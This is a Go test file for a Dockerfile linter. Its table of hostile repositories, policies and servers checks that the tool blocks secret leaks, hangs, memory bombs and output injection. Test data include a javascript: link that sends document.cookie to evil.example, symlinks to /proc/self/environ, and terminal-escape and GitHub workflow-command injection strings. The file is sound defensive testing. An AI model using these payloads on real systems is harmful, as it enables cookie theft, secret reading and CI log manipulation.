package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/golint-docker/golint-docker/pkg/policy"
	"github.com/golint-docker/golint-docker/pkg/testenv"
)

// TestMain lets this test binary serve as the policy sandbox's worker, as
// the golint-docker binary does: the in-process runs of the command start
// their workers from os.Executable().
func TestMain(m *testing.M) {
	if policy.IsWorker() {
		os.Exit(policy.RunWorker(os.Stdin, os.Stdout))
	}
	os.Exit(m.Run())
}

// secret is what a hostile repository or policy must never get into a
// report: it is in a file outside the repository and in the environment of
// the test process (so in /proc/self/environ).
const secret = "ghp_HOSTILEMARKER0123456789"

// hostileRow is one attack from issue 9: a repository (and maybe a policy
// or an OPA server) that setup builds in dir, the command line to run on
// it, and what must come out. Every row also checks that nothing leaked
// (secret), nothing hung (within) and nothing was overwritten (dir and the
// secret file are the same afterwards, besides outputs the row names).
type hostileRow struct {
	name  string
	setup func(t *testing.T, dir string) []string // returns the arguments
	stdin io.Reader
	// binary runs the built golint-docker (its real stderr, with the
	// filters main installs) instead of run() in process.
	binary bool
	code   int
	want   []string // in stdout or stderr
	not    []string // in neither (besides the secret and stack traces)
	check  func(t *testing.T, dir, stdout, stderr string)
	within time.Duration // default 15s
	// writes are files under dir the run may create or change.
	writes []string
	// stress rows take seconds: only TestStressHostile (make test-stress).
	stress bool
	// maxRSSMiB bounds the peak resident memory of every process of a
	// binary run (0: not measured).
	maxRSSMiB int64
}

func hostileRows() []hostileRow {
	policyRow := func(name, body string, extra ...string) func(t *testing.T, dir string) []string {
		return func(t *testing.T, dir string) []string {
			write(t, dir, "policy/"+name+".rego", "# METADATA\n# title: Hostile "+name+"\n# custom:\n#   id: EVIL1\n#   severity: warning\npackage golintdocker.rules."+name+"\n\n"+body+"\n")
			df := write(t, dir, "repo/Dockerfile", mustRead(t, clean))
			return append(append([]string{"--policy", filepath.Join(dir, "policy")}, extra...), df)
		}
	}
	return []hostileRow{
		// Reading.
		{
			name: "links out of the repository are not followed",
			setup: func(t *testing.T, dir string) []string {
				repo := filepath.Join(dir, "repo")
				write(t, repo, "Dockerfile", mustRead(t, clean))
				os.Mkdir(filepath.Join(repo, ".git"), 0o755)
				os.Symlink("/proc/self/environ", filepath.Join(repo, "Dockerfile.env"))
				os.Symlink(filepath.Join(dir, "secret"), filepath.Join(repo, "Dockerfile.abs"))
				os.Symlink("../secret", filepath.Join(repo, "svc.Dockerfile"))
				return []string{"--format", "github", repo}
			},
			code: 2,
			want: []string{"Dockerfile.env::a symbolic link to a file outside the tree", "Dockerfile.abs::a symbolic link", "svc.Dockerfile::a symbolic link"},
		},
		{
			name: "links inside the repository are followed",
			setup: func(t *testing.T, dir string) []string {
				repo := filepath.Join(dir, "repo")
				write(t, repo, "docker/Dockerfile.prod", mustRead(t, clean))
				write(t, repo, "svc/.dockerignore", ".git\n")
				os.Mkdir(filepath.Join(repo, ".git"), 0o755)
				os.Symlink("../docker/Dockerfile.prod", filepath.Join(repo, "svc", "Dockerfile"))
				return []string{filepath.Join(repo, "svc")}
			},
			code: 0,
			want: []string{"no problems found in 1 file"},
		},
		{
			name: "a /proc file named on the command line is refused",
			setup: func(t *testing.T, dir string) []string {
				os.Symlink("/proc/self/environ", filepath.Join(dir, "Dockerfile.env"))
				return []string{filepath.Join(dir, "Dockerfile.env")}
			},
			code: 2,
			want: []string{"Dockerfile.env: error: not a regular file (a /proc file)"},
		},
		{
			name: "a secret named on the command line is quoted in a short excerpt only",
			setup: func(t *testing.T, dir string) []string {
				return []string{filepath.Join(dir, "secret")}
			},
			code: 2,
			want: []string{"secret:1: error: unknown instruction: SECRET_TOKEN=0123456789", "…"},
		},
		{
			name: "a FIFO named Dockerfile in a searched directory",
			setup: func(t *testing.T, dir string) []string {
				write(t, dir, "repo/good/Dockerfile", mustRead(t, clean))
				write(t, dir, "repo/good/.dockerignore", ".git\n")
				os.MkdirAll(filepath.Join(dir, "repo", "fifo"), 0o755)
				syscall.Mkfifo(filepath.Join(dir, "repo", "fifo", "Dockerfile"), 0o644)
				return []string{filepath.Join(dir, "repo")}
			},
			code: 2,
			want: []string{"fifo/Dockerfile: error: not a regular file (a named pipe); not read", "2 files linted: 1 file could not be linted"},
		},
		{
			name: "a FIFO named on the command line",
			setup: func(t *testing.T, dir string) []string {
				syscall.Mkfifo(filepath.Join(dir, "Dockerfile"), 0o644)
				return []string{filepath.Join(dir, "Dockerfile"), clean}
			},
			code: 2,
			want: []string{"Dockerfile: error: not a regular file (a named pipe)"},
		},
		{
			name: "a FIFO as .dockerignore does not block",
			setup: func(t *testing.T, dir string) []string {
				df := write(t, dir, "repo/Dockerfile", mustRead(t, clean))
				// go.mod and go.sum make the folder the build context.
				write(t, dir, "repo/go.mod", "module example.com/app\n\ngo 1.27\n")
				write(t, dir, "repo/go.sum", "")
				syscall.Mkfifo(filepath.Join(dir, "repo", ".dockerignore"), 0o644)
				return []string{df}
			},
			code: 0,
			want: []string{"no problems found in 1 file", ".dockerignore: not a regular file (a named pipe); the checks that depend on what it excludes say nothing"},
		},
		{
			name:  "standard input never closed",
			stdin: neverClosed(),
			setup: func(t *testing.T, dir string) []string {
				return []string{"--timeout", "500ms", "-"}
			},
			code:   2,
			want:   []string{"<stdin>: error: reading did not finish in time (no end of input after 500ms) (see --timeout)"},
			within: 5 * time.Second,
		},
		{
			name: "a configuration FIFO",
			setup: func(t *testing.T, dir string) []string {
				syscall.Mkfifo(filepath.Join(dir, "cfg.yaml"), 0o644)
				return []string{"--config", filepath.Join(dir, "cfg.yaml"), clean}
			},
			code: 2,
			want: []string{"cfg.yaml: not a regular file (a named pipe)"},
		},
		{
			name: "a configuration linked to /dev/zero",
			setup: func(t *testing.T, dir string) []string {
				os.Symlink("/dev/zero", filepath.Join(dir, "cfg.yaml"))
				return []string{"--config", filepath.Join(dir, "cfg.yaml"), clean}
			},
			code: 2,
			want: []string{"cfg.yaml: not a regular file (a character device)"},
		},
		{
			name: "a found configuration linked out of the repository",
			setup: func(t *testing.T, dir string) []string {
				write(t, dir, "outside.yaml", "ignore: ["+secret+"]\nsecret: "+secret+"\n")
				repo := filepath.Join(dir, "repo")
				write(t, repo, "Dockerfile", mustRead(t, clean))
				os.Mkdir(filepath.Join(repo, ".git"), 0o755)
				os.Symlink("../outside.yaml", filepath.Join(repo, ".golint-docker.yaml"))
				t.Chdir(repo)
				return []string{"Dockerfile"}
			},
			code: 2,
			want: []string{".golint-docker.yaml: a symbolic link to a file outside the tree"},
		},
		{
			name: "a policy module linked to /dev/zero",
			setup: func(t *testing.T, dir string) []string {
				os.MkdirAll(filepath.Join(dir, "policy"), 0o755)
				os.Symlink("/dev/zero", filepath.Join(dir, "policy", "zero.rego"))
				return []string{"--policy", filepath.Join(dir, "policy"), clean}
			},
			code: 2,
			want: []string{"zero.rego: a symbolic link to a file outside the tree"},
		},
		{
			name: "a policy data.json FIFO",
			setup: func(t *testing.T, dir string) []string {
				os.MkdirAll(filepath.Join(dir, "policy", "acme"), 0o755)
				syscall.Mkfifo(filepath.Join(dir, "policy", "acme", "data.json"), 0o644)
				return []string{"--policy", filepath.Join(dir, "policy"), clean}
			},
			code: 2,
			want: []string{"data.json: not a regular file (a named pipe)"},
		},
		{
			name: "NUL bytes are one error, not a line of lexer noise per byte",
			setup: func(t *testing.T, dir string) []string {
				return []string{write(t, dir, "Dockerfile", "FROM alpine:3.22\nRUN echo "+strings.Repeat("\x00", 2000)+"\n")}
			},
			binary: true,
			code:   2,
			want:   []string{"Dockerfile:2: error: NUL byte"},
			not:    []string{"<input>:"},
		},
		{
			name: "bytes that are not UTF-8 are one note, not lexer noise",
			setup: func(t *testing.T, dir string) []string {
				return []string{write(t, dir, "Dockerfile", "FROM alpine:3.22\nUSER nobody\nRUN echo "+strings.Repeat("\xff", 500)+"\n")}
			},
			binary: true,
			code:   0,
			want:   []string{"line 3 is not valid UTF-8"},
			not:    []string{"<input>:"},
		},
		{
			name: "a report written beside the Dockerfile is not linted on the next run",
			setup: func(t *testing.T, dir string) []string {
				write(t, dir, "repo/Dockerfile", mustRead(t, clean))
				write(t, dir, "repo/.dockerignore", ".git\n")
				write(t, dir, "repo/Dockerfile.sarif", `{"version": "2.1.0", "runs": []}`)
				write(t, dir, "repo/Dockerfile.json", `{"files": []}`)
				return []string{filepath.Join(dir, "repo")}
			},
			code: 0,
			want: []string{"no problems found in 1 file"},
			not:  []string{"Dockerfile.sarif", "Dockerfile.json"},
		},
		// The policy sandbox.
		{
			name:  "json.match_schema is refused: its $refs read files",
			setup: policyRow("schema", `deny contains {"msg": sprintf("%v", [json.match_schema({}, {"$ref": "file:///proc/self/environ"})]), "line": 1}`),
			code:  2,
			want:  []string{"schema.rego:8:", "json.match_schema is not allowed: it reaches files and URLs", "--allow files"},
		},
		{
			name:  "the clock is refused",
			setup: policyRow("clock", `deny contains {"msg": sprintf("%d", [time.now_ns()]), "line": 1}`),
			code:  2,
			want:  []string{"time.now_ns is not allowed: it reaches the clock"},
		},
		{
			name:  "the environment is refused",
			setup: policyRow("env", `deny contains {"msg": sprintf("%v", [opa.runtime().env]), "line": 1}`),
			code:  2,
			want:  []string{"opa.runtime is not allowed: it reaches the environment"},
		},
		{
			name:  "the network is refused",
			setup: policyRow("net", `deny contains {"msg": "m", "line": 1} if http.send({"method": "GET", "url": "http://127.0.0.1:9/"}).status_code == 200`),
			code:  2,
			want:  []string{"http.send is not allowed: it reaches the network"},
		},
		{
			name:  "bits.lsh(1, 1e12) stops at the memory limit, with no stack dump",
			setup: policyRow("huge_shift", `deny contains {"msg": "m", "line": 1} if bits.lsh(1, 1000000000000) < 0`),
			code:  2,
			want:  []string{"policy evaluation stopped: a rule needed more memory than 1024 MiB allows (see --max-memory)"},
		},
		{
			name:   "bits.lsh(1, 1e8) stops at --timeout 2s",
			setup:  policyRow("long_shift", `deny contains {"msg": "m", "line": 1} if bits.lsh(1, 100000000) < 0`, "--timeout", "2s"),
			code:   2,
			want:   []string{"policy evaluation timed out after 2s"},
			within: 6 * time.Second,
			stress: true,
		},
		{
			name:   "a set grown without end stops at --max-memory before the heap doubles it",
			binary: true,
			setup: policyRow("huge_set", `deny contains {"msg": "m", "line": 1} if {
	s := {sprintf("%d-%d-padding-padding-padding", [i, j]) | some i in numbers.range(1, 100000); some j in numbers.range(1, 100000)}
	count(s) < 0
}`, "--max-memory", "200", "--timeout", "2m"),
			code:   2,
			want:   []string{"the heap grew past 200 MiB"},
			within: 2 * time.Minute,
			stress: true,
			// The sandbox worker holds the compiled rules (~100 MiB)
			// besides the 200 MiB; the parent is small.
			maxRSSMiB: 200 + 200,
		},
		{
			name:   "with --allow files, a $ref to /dev/zero stops at the memory limit",
			setup:  policyRow("zero", `deny contains {"msg": sprintf("%v", [json.match_schema({}, {"$ref": "file:///dev/zero"})]), "line": 1}`, "--allow", "files", "--max-memory", "256", "--timeout", "1m"),
			code:   2,
			want:   []string{"256 MiB"},
			within: time.Minute,
			stress: true,
		},
		{
			name:   "with --allow files, a $ref to /dev/stdin stops at the timeout",
			setup:  policyRow("stdin", `deny contains {"msg": sprintf("%v", [json.match_schema({}, {"$ref": "file:///dev/stdin"})]), "line": 1}`, "--allow", "files", "--timeout", "1s"),
			code:   2,
			want:   []string{"timed out after 1s"},
			within: 10 * time.Second,
			stress: true,
		},
		// Validation.
		{
			name:  "a finding without msg names the policy and rule",
			setup: policyRow("no_msg", `deny contains {"line": 1}`),
			code:  2,
			want:  []string{"no_msg.rego: rule no-msg (EVIL1) returned a bad finding: msg: missing (want string)"},
		},
		{
			name:  "a finding without line names the policy and rule",
			setup: policyRow("no_line", `deny contains {"msg": "m"}`),
			code:  2,
			want:  []string{"no_line.rego: rule no-line (EVIL1) returned a bad finding: line: missing (want integer)"},
		},
		{
			name:  "a finding with a wrong type names the policy and rule",
			setup: policyRow("bad_type", `deny contains {"msg": "m", "line": "3"}`),
			code:  2,
			want:  []string{"bad_type.rego: rule bad-type (EVIL1) returned a bad finding: line: got string, want integer"},
		},
		{
			name:  "a finding past the end of the file is clamped to its last line",
			setup: policyRow("far", `deny contains {"msg": "far away", "line": 9999, "end_line": 10000}`, "--format", "json"),
			code:  1,
			want:  []string{`"message": "far away"`, `"line": 21,`},
			not:   []string{"9999", "10000"},
		},
		{
			name: "a javascript: help link from a policy is dropped from SARIF",
			setup: func(t *testing.T, dir string) []string {
				write(t, dir, "policy/js.rego", "# METADATA\n# title: Links\n# related_resources:\n#   - ref: javascript:fetch('//evil.example/'+document.cookie)\n# custom:\n#   id: EVIL1\n#   severity: warning\npackage golintdocker.rules.js\n\ndeny contains {\"msg\": \"m\", \"line\": 1}\n")
				return []string{"--policy", filepath.Join(dir, "policy"), "--format", "sarif", clean}
			},
			code: 1,
			want: []string{`"id": "EVIL1"`},
			not:  []string{"javascript:"},
		},
		{
			name: "a data: typo in the configuration is an error, not a rule silently off",
			setup: func(t *testing.T, dir string) []string {
				return []string{"--config", write(t, dir, "cfg.yaml", "data:\n  go:\n    suported: ['1.27']\n"), clean}
			},
			code: 2,
			want: []string{`cfg.yaml:3: data.go: unknown key "suported"`},
		},
		{
			name: "a data: key no rule reads is an error",
			setup: func(t *testing.T, dir string) []string {
				return []string{"--config", write(t, dir, "cfg.yaml", "data:\n  golang:\n    supported: ['1.27']\n"), clean}
			},
			code: 2,
			want: []string{"cfg.yaml:2: data.golang: no rule reads data.golintdocker.golang"},
		},
		{
			name: "a 1.4 MB configuration of 100,000 keys parses in seconds",
			setup: func(t *testing.T, dir string) []string {
				var b strings.Builder
				b.WriteString("severity:\n")
				for i := 0; i < 100000; i++ {
					fmt.Fprintf(&b, "  R%06d: info\n", i)
				}
				return []string{"--config", write(t, dir, "cfg.yaml", b.String()), clean}
			},
			code:   0,
			want:   []string{`no rule "R099999"`},
			within: time.Minute,
			stress: true,
		},
		{
			name: "an ARG read before it is declared gives no FROM golang: fix",
			setup: func(t *testing.T, dir string) []string {
				return []string{write(t, dir, "Dockerfile", "ARG A=$B\nARG B=$A\nFROM golang:${A}${B}\nRUN go build -o /app .\nCMD [\"/app\"]\n")}
			},
			code: 1,
			want: []string{"InvalidDefaultArgInFrom"},
			not:  []string{"golang: AS", "GD001"},
		},
		// Output hygiene.
		{
			name:  "terminal escapes and workflow commands from a Dockerfile, its name and a policy (tty)",
			setup: injection,
			code:  2,
			check: inertOutput,
		},
		{
			name: "terminal escapes and workflow commands from a Dockerfile, its name and a policy (github)",
			setup: func(t *testing.T, dir string) []string {
				return append([]string{"--format", "github"}, injection(t, dir)...)
			},
			code:  2,
			check: inertOutput,
		},
		{
			name: "escapes and workflow commands in an OPA server's reply",
			setup: func(t *testing.T, dir string) []string {
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					io.Copy(io.Discard, r.Body)
					fmt.Fprintf(w, `{"result": [{"rule_name": "remote", "rule_id": "R1", "severity": "error", "message": "x\u001b]0;pwned\u0007\n::error file=a::injected ##[add-mask]y", "line": 1}]}`)
				}))
				t.Cleanup(srv.Close)
				return []string{"--opa-url", srv.URL, "--format", "github", "--buildkit-checks=false", clean}
			},
			code:  1,
			want:  []string{`x\x1b]0;pwned\x07%0A\::error file=a::injected ##\[add-mask]y`},
			check: inertOutput,
		},
		// Time.
		{
			name: "an OPA server that never answers costs three timeouts, not one per file",
			setup: func(t *testing.T, dir string) []string {
				release := make(chan struct{})
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					io.Copy(io.Discard, r.Body)
					select {
					case <-r.Context().Done():
					case <-release:
					}
				}))
				t.Cleanup(func() { close(release); srv.Close() })
				args := []string{"--opa-url", srv.URL, "--timeout", "200ms", "--jobs", "1", "--buildkit-checks=false"}
				for i := 0; i < 10; i++ {
					args = append(args, write(t, dir, fmt.Sprintf("svc%d/Dockerfile", i), mustRead(t, clean)))
				}
				return args
			},
			code:   2,
			want:   []string{"the OPA server did not answer within 200ms", "not sent, as the last 3 requests got no answer", "10 files linted: 10 files could not be linted"},
			within: 5 * time.Second,
		},
	}
}

// injection is a repository whose Dockerfile, file name and policy carry
// terminal escapes and workflow commands.
func injection(t *testing.T, dir string) []string {
	evil := "\x1b]0;pwned\x07\x1b[2J\u202e\n::error file=x::injected\n ::add-mask::y ##[set-env name=A]b"
	name := "svc\x1b[31m::warning::x"
	write(t, dir, "repo/"+name+"/Dockerfile", "FROM golang:1.27-alpine AS build\nRUN go build -o /app .\nFROM scratch\nLABEL note=\"\x1b[2J\x07\"\nCOPY --from=build /app /app\nUSER 65532\nENTRYPOINT [\"/app\"]\n")
	write(t, dir, "repo/bad\x1b]0;x\x07.Dockerfile", "FROM alpine:3.22\nRUNN \x1b[2J\x07 ::error::x\n")
	evilJSON := strings.NewReplacer("\x1b", `\u001b`, "\x07", `\u0007`, "\n", `\n`, "\u202e", `\u202e`).Replace(evil)
	write(t, dir, "policy/evil.rego", "# METADATA\n# title: \"Evil"+evilJSON+"\"\n# custom:\n#   id: EVIL1\n#   severity: error\n#   fix: \""+evilJSON+"\"\npackage golintdocker.rules.evil\n\ndeny contains {\"msg\": \""+evilJSON+"\", \"line\": 1, \"fix\": \""+evilJSON+"\"}\n")
	return []string{"--policy", filepath.Join(dir, "policy"), filepath.Join(dir, "repo")}
}

var stackTrace = regexp.MustCompile(`goroutine \d+ \[|panic:|\.go:\d+|fatal error:`)

var rawControl = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069]")

// inertOutput: no control character, and no line — nor, in the github
// format, no line of a message once the runner has unescaped it — that the
// Actions runner could take for a workflow command.
func inertOutput(t *testing.T, dir, stdout, stderr string) {
	for _, out := range []string{stdout, stderr} {
		if m := rawControl.FindString(out); m != "" {
			t.Errorf("control character %q in:\n%s", m, out)
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.Contains(line, "##[") {
				t.Errorf("##[ in %q", line)
			}
			if !regexp.MustCompile(`^::(error|warning|notice) `).MatchString(line) {
				if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") {
					t.Errorf("a line starts a workflow command: %q", line)
				}
				continue
			}
			data := line[strings.Index(line[2:], "::")+4:]
			data = strings.NewReplacer("%0A", "\n", "%0D", "\r", "%25", "%").Replace(data)
			for _, l := range strings.Split(data, "\n") {
				if strings.HasPrefix(strings.TrimLeft(l, " \t"), "::") {
					t.Errorf("a line of an annotation starts a workflow command: %q in %q", l, line)
				}
			}
		}
	}
}

// neverClosed is standard input that gives a line and then nothing, ever.
func neverClosed() io.Reader {
	r, w := io.Pipe()
	go w.Write([]byte("FROM alpine:3.22\n"))
	return r
}

// TestHostile is issue 9's table: hostile repositories, policies and
// servers. The rows that need seconds are TestStressHostile's.
func TestHostile(t *testing.T) {
	runHostile(t, false)
}

func runHostile(t *testing.T, stress bool) {
	t.Setenv("GOLINT_DOCKER_TEST_SECRET", secret)
	for _, r := range hostileRows() {
		if r.stress != stress {
			continue
		}
		t.Run(r.name, func(t *testing.T) {
			dir := t.TempDir()
			write(t, dir, "secret", "SECRET_TOKEN=0123456789012345678901234567890123456789"+secret+"\nHOME=/root\n")
			args := r.setup(t, dir)
			before := snapshot(t, dir)
			within := r.within
			if within == 0 {
				within = 15 * time.Second
			}
			start := time.Now()
			var code int
			var stdout, stderr string
			if r.binary {
				var peak int64
				code, stdout, stderr, peak = runBinary(t, args, within)
				t.Logf("peak RSS of the run's processes: %d MiB", peak>>20)
				if r.maxRSSMiB > 0 && peak>>20 > r.maxRSSMiB {
					t.Errorf("peak RSS %d MiB, want at most %d", peak>>20, r.maxRSSMiB)
				}
			} else {
				code, stdout, stderr = runInProcess(t, args, r.stdin, within)
			}
			elapsed := time.Since(start)
			t.Logf("exit %d in %v", code, elapsed.Round(time.Millisecond))
			all := stdout + stderr
			if code != r.code {
				t.Errorf("exit %d, want %d\nstdout:\n%.3000s\nstderr:\n%.3000s", code, r.code, stdout, stderr)
			}
			for _, w := range r.want {
				if !strings.Contains(all, w) {
					t.Errorf("output lacks %q:\nstdout:\n%.3000s\nstderr:\n%.3000s", w, stdout, stderr)
				}
			}
			for _, n := range r.not {
				if strings.Contains(all, n) {
					t.Errorf("output has %q:\n%.3000s", n, all)
				}
			}
			if strings.Contains(all, secret) {
				t.Errorf("the secret leaked:\n%.3000s", all)
			}
			if m := stackTrace.FindString(all); m != "" {
				t.Errorf("a stack trace reaches the user (%q):\n%.3000s", m, all)
			}
			if r.check != nil {
				r.check(t, dir, stdout, stderr)
			}
			after := snapshot(t, dir)
			for p, h := range before {
				if after[p] != h && !written(r.writes, p) {
					t.Errorf("%s changed: %s -> %s", p, h, after[p])
				}
			}
			for p := range after {
				if _, ok := before[p]; !ok && !written(r.writes, p) {
					t.Errorf("%s appeared", p)
				}
			}
		})
	}
}

func written(writes []string, p string) bool {
	for _, w := range writes {
		if w == p {
			return true
		}
	}
	return false
}

// runInProcess runs the command in this process, failing the test if it
// has not returned within the bound (a hang).
func runInProcess(t *testing.T, args []string, stdin io.Reader, within time.Duration) (int, string, string) {
	t.Helper()
	if stdin == nil {
		stdin = strings.NewReader("")
	}
	var out, errb syncBuffer
	done := make(chan int, 1)
	go func() {
		done <- run(context.Background(), args, env{stdin: stdin, stdout: &out, stderr: &errb, getenv: func(string) string { return "" }})
	}()
	select {
	case code := <-done:
		return code, out.String(), errb.String()
	case <-time.After(within):
		t.Fatalf("still running after %v (a hang)\nstdout:\n%s\nstderr:\n%s", within, out.String(), errb.String())
		return 0, "", ""
	}
}

// runBinary runs the built golint-docker, killed if it runs past the bound,
// and returns the highest peak resident memory of it or a child of it.
func runBinary(t *testing.T, args []string, within time.Duration) (int, string, string, int64) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), within)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary(t), args...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	peak := make(chan int64, 1)
	go func() { peak <- treePeakRSS(cmd.Process.Pid, stop) }()
	err := cmd.Wait()
	close(stop)
	if ctx.Err() != nil {
		t.Fatalf("still running after %v (a hang)\nstdout:\n%s\nstderr:\n%s", within, out.String(), errb.String())
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return code, out.String(), errb.String(), <-peak
}

// treePeakRSS follows pid and its children until stop and returns the
// highest VmHWM seen, in bytes.
func treePeakRSS(pid int, stop <-chan struct{}) int64 {
	var peak int64
	for {
		pids := []int{pid}
		// Children are listed by the thread that started them.
		tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", pid))
		for _, task := range tasks {
			raw, _ := os.ReadFile(task)
			for _, f := range strings.Fields(string(raw)) {
				var c int
				fmt.Sscan(f, &c)
				pids = append(pids, c)
			}
		}
		for _, p := range pids {
			raw, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", p))
			if err != nil {
				continue
			}
			peak = max(peak, testenv.VmHWM(raw))
		}
		select {
		case <-stop:
			return peak
		case <-time.After(5 * time.Millisecond):
		}
	}
}

// syncBuffer is a bytes.Buffer safe to read while run writes to it.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// snapshot is every path under dir with its type, mode and content hash
// (FIFOs and devices are not opened).
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		info, err := d.Info()
		if err != nil {
			return nil
		}
		desc := info.Mode().String()
		if info.Mode().IsRegular() {
			raw, _ := os.ReadFile(p)
			h := sha256.Sum256(raw)
			desc += " " + hex.EncodeToString(h[:8])
		} else if info.Mode()&fs.ModeSymlink != 0 {
			target, _ := os.Readlink(p)
			desc += " -> " + target
		}
		out[p] = desc
		return nil
	})
	return out
}
